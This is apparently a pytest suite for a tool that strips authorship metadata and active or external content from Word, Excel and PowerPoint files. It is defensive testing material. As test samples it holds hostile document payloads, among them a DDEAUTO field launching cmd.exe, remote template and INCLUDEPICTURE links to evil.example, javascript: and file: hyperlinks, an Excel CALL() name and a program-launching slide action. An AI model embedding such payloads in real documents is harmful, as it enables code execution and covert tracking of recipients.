"""No copy of an Office file acts, leads elsewhere or says who made it."""

import io
import re
from collections.abc import Callable

import packages
import pytest
from lxml import etree
from packages import (
    DOCUMENT,
    OFFICE,
    RELATED,
    SECRET,
    SHEET,
    SLIDE,
    VML,
    body,
    changed,
    clean,
    excel,
    in_body,
    in_settings,
    packed,
    parts,
    picture_in_word,
    powerpoint,
    related,
    relation,
    run,
    says,
    word,
)
from PIL import Image

TRACES = {
    "custom properties": lambda: related(
        word(),
        "",
        relation("rId9", "custom-properties", "docProps/custom.xml"),
        {},
        **{"docProps__custom.xml": f"<Properties>{SECRET}</Properties>".encode()},
    ),
    "custom data": lambda: in_body(
        "",
        relation("rId99", "customXml", "../customXml/item1.xml"),
        **{"customXml__item1.xml": f"<x>{SECRET}</x>".encode()},
    ),
    "glossary": lambda: in_body("", relation("rId99", "glossaryDocument", "g.xml"), **{"word__g.xml": SECRET.encode()}),
    "people": lambda: in_body(
        "",
        relation("rId99", "http://schemas.microsoft.com/office/2011/relationships/people", "people.xml"),
        **{"word__people.xml": SECRET.encode()},
    ),
    "what WPS knows of the machine": lambda: in_settings(
        f'<w:docVars><w:docVar w:name="commondata" w:val="{SECRET}"/></w:docVars>'
    ),
    "sessions of editing": lambda: in_body(f'<w:p w:rsidR="{SECRET}"/>'),
    "a change": lambda: in_body(f'<w:p><w:ins w:id="7" w:author="{SECRET}" w:date="2026-01-01T00:00:00Z"/></w:p>'),
    "a deletion": lambda: in_body(f'<w:p><w:del w:id="7" w:author="{SECRET}"><w:r/></w:del></w:p>'),
    "a change of format": lambda: in_body(f'<w:p><w:pPr><w:pPrChange w:id="8" w:author="{SECRET}"/></w:pPr></w:p>'),
    "an editor's right": lambda: in_body(f'<w:permStart w:id="1" w:ed="{SECRET}"/><w:permEnd w:id="1"/>'),
    "a picture's file name": lambda: in_body(picture_in_word("", f"{SECRET}.jpg")),
    "a picture's path": lambda: in_body(picture_in_word("", descr=f"D:\\{SECRET}\\1.jpg")),
    "a drawing within": lambda: in_body(run(f'<w:pict><v:shape {VML} o:gfxdata="{SECRET}" alt="{SECRET}"/></w:pict>')),
    "a title of a picture": lambda: in_body(run(f'<w:pict><v:imagedata {VML} o:title="{SECRET}"/></w:pict>')),
    "who is to sign": lambda: in_body(
        run(f'<w:pict><v:shape {VML}><o:signatureline o:suggestedsigner="{SECRET}"/></v:shape></w:pict>')
    ),
    "a comment in the XML": lambda: in_body(f"<!-- {SECRET} -->"),
    "an instruction in the XML": lambda: in_body(f"<?mso {SECRET}?>"),
    "an unknown namespace": lambda: in_body(f'<w:p xmlns:x="urn:x" x:a="{SECRET}"><x:b>{SECRET}</x:b></w:p>'),
    "a base of addresses": lambda: in_body(f'<w:p xml:base="http://{SECRET}/"/>'),
    "an extension": lambda: in_body(
        picture_in_word("").replace(
            "<a:blip",
            f'<a:extLst xmlns:a="http://schemas.'
            f'openxmlformats.org/drawingml/2006/main"><a:ext uri="{SECRET}"/></a:extLst><a:blip',
        )
    ),
    "what was deleted": lambda: in_body(
        f'<w:p><w:del w:id="7"><w:r><w:delText>{SECRET}</w:delText></w:r></w:del></w:p>'
    ),
    "what was moved away": lambda: in_body(
        f'<w:p><w:moveFromRangeStart w:id="2" w:name="{SECRET}"/><w:moveFrom w:id="7"><w:r><w:t>{SECRET}</w:t></w:r>'
        '</w:moveFrom><w:moveFromRangeEnd w:id="2"/></w:p>'
    ),
    "what is hidden": lambda: in_body(run(f"<w:rPr><w:vanish/></w:rPr><w:t>{SECRET}</w:t>")),
    "what is hidden by a value": lambda: in_body(run(f'<w:rPr><w:vanish w:val="true"/></w:rPr><w:t>{SECRET}</w:t>')),
    "a content control": lambda: in_body(
        f'<w:sdt><w:sdtPr><w:alias w:val="{SECRET}"/><w:tag w:val="{SECRET}"/><w:comboBox w:lastValue="{SECRET}"/>'
        "</w:sdtPr><w:sdtContent><w:p/></w:sdtContent></w:sdt>"
    ),
    "a form field": lambda: in_body(
        run(
            f'<w:fldChar w:fldCharType="begin"><w:ffData><w:name w:val="{SECRET}"/><w:textInput><w:default '
            f'w:val="{SECRET}"/></w:textInput></w:ffData></w:fldChar>'
        )
        + run("<w:instrText>FORMTEXT</w:instrText>")
        + run('<w:fldChar w:fldCharType="end"/>')
    ),
    "a link's tooltip": lambda: in_body(
        f'<w:p><w:hyperlink w:anchor="a" w:tooltip="D:\\{SECRET}" w:docLocation="{SECRET}"><w:r/></w:hyperlink></w:p>'
    ),
    "a link's tooltip in its code": lambda: in_body(
        "<w:p>" + field(f'HYPERLINK "https://example.org" \\o "D:/{SECRET}"') + "</w:p>"
    ),
    "a link's password": lambda: in_body(
        f'<w:p><w:hyperlink {RELATED} r:id="rId99"><w:r/></w:hyperlink></w:p>',
        relation("rId99", "hyperlink", f"https://{SECRET}:1@example.org/", external=True),
    ),
    "a slide's name": lambda: changed(powerpoint(), {SLIDE: ("<p:cSld>", f'<p:cSld name="{SECRET}">')}),
    "form data": lambda: in_body(run(f'<w:fldChar w:fldCharType="begin"><w:fldData>{SECRET}</w:fldData></w:fldChar>')),
    "a smart tag": lambda: in_body(f'<w:p><w:smartTag w:uri="{SECRET}"><w:r/></w:smartTag></w:p>'),
    "a part nothing refers to": lambda: packed({**parts(word()), "word/x.xml": SECRET.encode()}),
    "a part's name": lambda: in_body(
        picture_in_word('r:embed="rId99"'),
        relation("rId99", "image", f"media/{SECRET}.png"),
        **{f"word__media__{SECRET}.png": packages.photograph("PNG").read()},
    ),
    "a relation's name": lambda: in_body(
        picture_in_word(f'r:embed="{SECRET}"'),
        relation(SECRET, "image", "media/x.png"),
        **{"word__media__x.png": packages.photograph("PNG").read()},
    ),
    "the archive's comment": lambda: packed(parts(word()), SECRET.encode()),
    "what is appended": lambda: word() + SECRET.encode(),
    "a sheet's code name": lambda: changed(excel(), {SHEET: ("<sheetPr>", f'<sheetPr codeName="{SECRET}">')}),
    "a workbook's path": lambda: changed(
        excel(),
        {
            "xl/workbook.xml": (
                "<bookViews>",
                f'<x15:absPath xmlns:x15="urn:x" url="C:\\{SECRET}\\"/><fileSharing userName="{SECRET}"/><bookViews>',
            )
        },
    ),
    "a scenario": lambda: changed(
        excel(), {SHEET: ("<mergeCells", f'<scenarios><scenario user="{SECRET}"/></scenarios><mergeCells')}
    ),
    "who refreshed a pivot": lambda: related(
        excel(),
        "xl/workbook.xml",
        relation("rId99", "pivotCacheDefinition", "p.xml"),
        {
            "xl/workbook.xml": (
                "<calcPr",
                f'<pivotCaches><pivotCache {RELATED} cacheId="1" r:id="rId99"/></pivotCaches><calcPr',
            )
        },
        **{"xl__p.xml": f'<pivotCacheDefinition refreshedBy="{SECRET}"/>'.encode()},
    ),
    "the persons of a talk": lambda: related(
        excel(),
        "xl/workbook.xml",
        relation("rId99", "http://schemas.microsoft.com/office/2017/10/relationships/person", "persons/p.xml"),
        {},
        **{"xl__persons__p.xml": SECRET.encode()},
    ),
    "a printer": lambda: related(
        excel(),
        SHEET,
        relation("rId99", "printerSettings", "../p.bin"),
        {SHEET: ("</worksheet>", f'<pageSetup {RELATED} r:id="rId99"/></worksheet>')},
        **{"xl__p.bin": SECRET.encode("utf-16-le")},
    ),
    "a slide's tags": lambda: related(
        powerpoint(),
        SLIDE,
        relation("rId99", "tags", "../tags/t.xml"),
        {SLIDE: ("</p:cSld>", f'<p:custDataLst><p:tags {RELATED} r:id="rId99"/></p:custDataLst></p:cSld>')},
        **{"ppt__tags__t.xml": SECRET.encode()},
    ),
    "who commented a slide": lambda: related(
        powerpoint(),
        "ppt/presentation.xml",
        relation("rId99", "commentAuthors", "a.xml"),
        {},
        **{
            "ppt__a.xml": f'<p:cmAuthorLst xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main">'
            f'<p:cmAuthor id="0" name="{SECRET}" initials="{SECRET}" lastIdx="1" clrIdx="0"/></p:cmAuthorLst>'.encode()
        },
    ),
    "a shape's alternative text": lambda: changed(powerpoint(), {SLIDE: (' name="', f' descr="{SECRET}" name="')}),
}


@pytest.mark.parametrize("made", TRACES.values(), ids=TRACES.keys())
async def test_no_trace_of_who_made_it_stays_where_programs_leave_one(made: Callable[[], bytes]) -> None:
    assert says(made(), SECRET)
    assert not says((await clean(made())).data, SECRET)


EVIL = "http://evil.example/x"
ACTIVE = {
    "a template elsewhere": lambda: in_settings(
        f'<w:attachedTemplate {RELATED} r:id="rId99"/>', relation("rId99", "attachedTemplate", EVIL, external=True)
    ),
    "a picture elsewhere": lambda: in_body(
        picture_in_word('r:link="rId99"'), relation("rId99", "image", EVIL, external=True)
    ),
    "a picture of VML elsewhere": lambda: in_body(
        run(f'<w:pict><v:imagedata {VML} src="{EVIL}" o:href="{EVIL}"/></w:pict>')
    ),
    "a style that links": lambda: in_body(run(f'<w:pict><v:shape {VML} style="background:url({EVIL})"/></w:pict>')),
    "a code in plain text": lambda: in_body(
        run('<w:fldChar w:fldCharType="begin"/>')
        + run(f'<w:t>INCLUDEPICTURE "{EVIL}"</w:t>')
        + run("<w:instrText>PAGE</w:instrText>")
        + run('<w:fldChar w:fldCharType="separate"/>')
        + run('<w:fldChar w:fldCharType="end"/>')
    ),
    "a shape that links": lambda: in_body(run(f'<w:pict><v:shape {VML} href="{EVIL}" id="s"/></w:pict>')),
    "a frame": lambda: related(word(), DOCUMENT, relation("rId99", "frame", EVIL, external=True), {}),
    "another document": lambda: in_body(
        f'<w:subDoc {RELATED} r:id="rId99"/>', relation("rId99", "subDocument", EVIL, external=True)
    ),
    "a web page within": lambda: in_body(
        f'<w:altChunk {RELATED} r:id="rId99"/>',
        relation("rId99", "aFChunk", "/evil.html"),
        **{"evil.html": b"<script>evil.example</script>"},
    ),
    "an object": lambda: in_body(
        run(
            f'<w:object><v:shape {VML} id="evil.example"/><o:OLEObject {VML} {RELATED} r:id="rId99"/></w:object>'
        ).replace('id="evil.example"', 'id="s"'),
        relation("rId99", "oleObject", "embeddings/o.bin"),
        **{"word__embeddings__o.bin": b"evil.example"},
    ),
    "an object elsewhere": lambda: in_body(
        run(f'<w:object><o:OLEObject {VML} {RELATED} r:id="rId99"/></w:object>'),
        relation("rId99", "oleObject", f"file:///{EVIL}", external=True),
    ),
    "a control": lambda: in_body(
        run(f'<w:object><w:control {RELATED} r:id="rId99"/></w:object>'),
        relation("rId99", "control", "activeX/a.xml"),
        **{"word__activeX__a.xml": b"evil.example"},
    ),
    "a macro": lambda: in_body(
        "",
        relation("rId99", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin"),
        **{"word__vbaProject.bin": b"evil.example"},
    ),
    "bound data": lambda: in_body(f'<w:sdt><w:sdtPr><w:dataBinding w:xpath="{EVIL}"/></w:sdtPr></w:sdt>'),
    "a link that runs": lambda: in_body(
        f'<w:p><w:hyperlink {RELATED} r:id="rId99"/></w:p>',
        relation("rId99", "hyperlink", f"javascript:{EVIL}", external=True),
    ),
    "a link to a file": lambda: in_body(
        f'<w:p><w:hyperlink {RELATED} r:id="rId99"/></w:p>',
        relation("rId99", "hyperlink", "file:////evil.example/share", external=True),
    ),
    "a form's macro": lambda: in_body(
        run('<w:fldChar w:fldCharType="begin"><w:ffData><w:entryMacro w:val="evil.example"/></w:ffData></w:fldChar>')
    ),
    "another workbook": lambda: related(
        excel(),
        "xl/workbook.xml",
        relation("rId99", "externalLink", "e.xml"),
        {
            "xl/workbook.xml": (
                "<calcPr",
                f'<externalReferences><externalReference {RELATED} r:id="rId99"/></externalReferences><calcPr',
            )
        },
        **{"xl__e.xml": b"evil.example"},
    ),
    "a connection": lambda: related(
        excel(), "xl/workbook.xml", relation("rId99", "connections", "c.xml"), {}, **{"xl__c.xml": b"evil.example"}
    ),
    "a name that computes": lambda: changed(
        excel(),
        {
            "xl/workbook.xml": (
                "<calcPr",
                '<definedNames><definedName name="a">CALL("evil.example")</definedName></definedNames><calcPr',
            )
        },
    ),
    "a macro of a name": lambda: changed(
        excel(),
        {
            "xl/workbook.xml": (
                "<calcPr",
                '<definedNames><definedName name="a" vbProcedure="1" comment="evil.example">A1</definedName>'
                "</definedNames><calcPr",
            )
        },
    ),
    "a rule that asks": lambda: changed(
        excel(),
        {
            SHEET: (
                "<mergeCells",
                '<dataValidations count="1"><dataValidation sqref="A1">'
                "<formula1>[evil.example]A!A1</formula1></dataValidation></dataValidations><mergeCells",
            )
        },
    ),
    "a film": lambda: related(
        powerpoint(),
        SLIDE,
        relation("rId99", "video", EVIL, external=True),
        {SLIDE: ("<p:nvPr/>", f'<p:nvPr><a:videoFile {RELATED} r:link="rId99"/></p:nvPr>')},
    ),
    "a shape that starts a program": lambda: related(
        powerpoint(),
        SLIDE,
        relation("rId99", "hyperlink", "https://example.org", external=True),
        {
            SLIDE: (
                '<p:cNvPr id="2" name="Title 1"/>',
                f'<p:cNvPr id="2" name="T"><a:hlinkClick {RELATED} r:id="rId99" action="ppaction://program?evil.example"/></p:cNvPr>',
            )
        },
    ),
}


@pytest.mark.parametrize("made", ACTIVE.values(), ids=ACTIVE.keys())
async def test_nothing_acts_or_leads_elsewhere(made: Callable[[], bytes]) -> None:
    assert says(made(), "evil.example")
    copy = (await clean(made())).data
    assert not says(copy, "evil.example")
    for name, part in parts(copy).items():
        if name.endswith(".rels"):
            for each in etree.fromstring(part):
                assert each.get("TargetMode") != "External" or each.get("Target", "").startswith("https://example.org")
        elif name.endswith((".xml", ".vml")):
            kept = set(etree.fromstring(parts(copy).get(rels_of(name), b"<none/>")).xpath("*/@Id"))
            used = {value for key, value in attributes(part) if key.startswith(f"{{{OFFICE[:-1]}}}") and value}
            assert used <= kept, f"{name} refers to what is not there"


def rels_of(name: str) -> str:
    folder, _, last = name.rpartition("/")
    return f"{folder}/_rels/{last}.rels".lstrip("/")


def attributes(part: bytes) -> list[tuple[str, str]]:
    return [(str(key), str(value)) for element in etree.fromstring(part).iter() for key, value in element.items()]


async def test_links_to_pages_and_mailboxes_stay() -> None:
    for target in ("https://example.org/a?b=c", "http://内网.example/", "mailto:union@example.org"):
        made = in_body(f'<w:p><w:hyperlink {RELATED} r:id="rId99"><w:r><w:t>链接</w:t></w:r></w:hyperlink></w:p>',
                       relation("rId99", "hyperlink", target, external=True))  # fmt: skip
        copy = parts((await clean(made)).data)
        assert target in copy["word/_rels/document.xml.rels"].decode()


async def test_hidden_codes_and_shown_text_stay() -> None:
    codes = field("SEQ 表").replace("<w:r><w:instrText>", "<w:r><w:rPr><w:vanish/></w:rPr><w:instrText>")
    shown = '<w:r><w:rPr><w:vanish w:val="0"/></w:rPr><w:t>看得见</w:t></w:r><w:ins><w:r><w:t>补充</w:t></w:r></w:ins>'
    copy = body((await clean(in_body(f"<w:p>{codes}{shown}</w:p>"))).data)
    for words in ("SEQ 表", "所示", "看得见", "补充"):
        assert words in copy


def field(code: str, shown: str = "所示") -> str:
    def mark(kind: str) -> str:
        return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'

    inside = code if code.startswith("<") else f"<w:r><w:instrText> {code} </w:instrText></w:r>"
    return f"{mark('begin')}{inside}{mark('separate')}<w:r><w:t>{shown}</w:t></w:r>{mark('end')}"


@pytest.mark.parametrize(
    "code",
    [
        'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"',
        "dde Excel x.xls",
        'INCLUDEPICTURE "http://evil.example/a.png" \\d',
        'INCLUDETEXT "\\\\evil.example\\a.docx"',
        "LINK Excel.Sheet.8 C:\\a.xls",
        "IMPORT x",
        "AUTHOR",
        "LASTSAVEDBY",
        "FILENAME \\p",
        "MACROBUTTON Run x",
        'HYPERLINK "file:///C:/Windows/calc.exe"',
        'HYPERLINK "\\\\evil.example\\share"',
        'HYPERLINK "\\\\lan\\share" \\o "https://example.org"',
        'HYPERLINK "https://example.org" "file:///x"',
        "HYPERLINK javascript:alert(1)",
        "",
        field("QUOTE 68 68 69", "DDEAUTO"),
    ],
)
async def test_of_a_field_that_acts_stays_what_it_shows(code: str) -> None:
    copy = body((await clean(in_body(f"<w:p>{field(code)}</w:p>"))).data)
    assert "<w:t>所示</w:t>" in copy
    assert "fldChar" not in copy
    assert "instrText" not in copy
    assert "DDE" not in copy


async def test_a_simple_field_that_acts_shows_its_text() -> None:
    copy = body(
        (
            await clean(
                in_body('<w:p><w:fldSimple w:instr="INCLUDETEXT x"><w:r><w:t>所示</w:t></w:r></w:fldSimple></w:p>')
            )
        ).data
    )
    assert "<w:t>所示</w:t>" in copy
    assert "fldSimple" not in copy


@pytest.mark.parametrize(
    "code",
    [
        "PAGE",
        "NUMPAGES \\* Arabic",
        'TOC \\o "1-3"',
        'HYPERLINK "https://example.org"',
        "HYPERLINK \\l _Toc1",
        "= 1 + 2",
    ],
)
async def test_a_field_that_counts_or_points_within_stays(code: str) -> None:
    copy = body((await clean(in_body(f"<w:p>{field(code)}</w:p>"))).data)
    assert copy.count("fldCharType") == 3
    assert code in copy


async def test_of_an_object_stays_its_picture() -> None:
    made = in_body(
        run(
            f'<w:object><v:shape {VML} id="s" style="width:9pt"><v:imagedata {RELATED} r:id="rId98"/></v:shape>'
            f'<o:OLEObject {VML} {RELATED} r:id="rId99"/></w:object>'
        ),
        relation("rId98", "image", "media/o.emf") + relation("rId99", "package", "embeddings/o.xlsx"),
        **{"word__media__o.emf": b"\x01\x00\x00\x00" + bytes(100), "word__embeddings__o.xlsx": excel()},
    )
    copy = parts((await clean(made)).data)
    assert not any("embeddings" in name for name in copy)
    shown = re.search(r'imagedata[^>]* r:id="(\w+)"', copy[DOCUMENT].decode())
    assert shown
    target = re.search(rf'Id="{shown[1]}"[^>]*Target="/([^"]+)"', copy["word/_rels/document.xml.rels"].decode())
    assert target
    box = Image.open(io.BytesIO(copy[target[1]]))
    assert box.format == "PNG", "a grey box stands for a kind of picture that cannot be made safe"
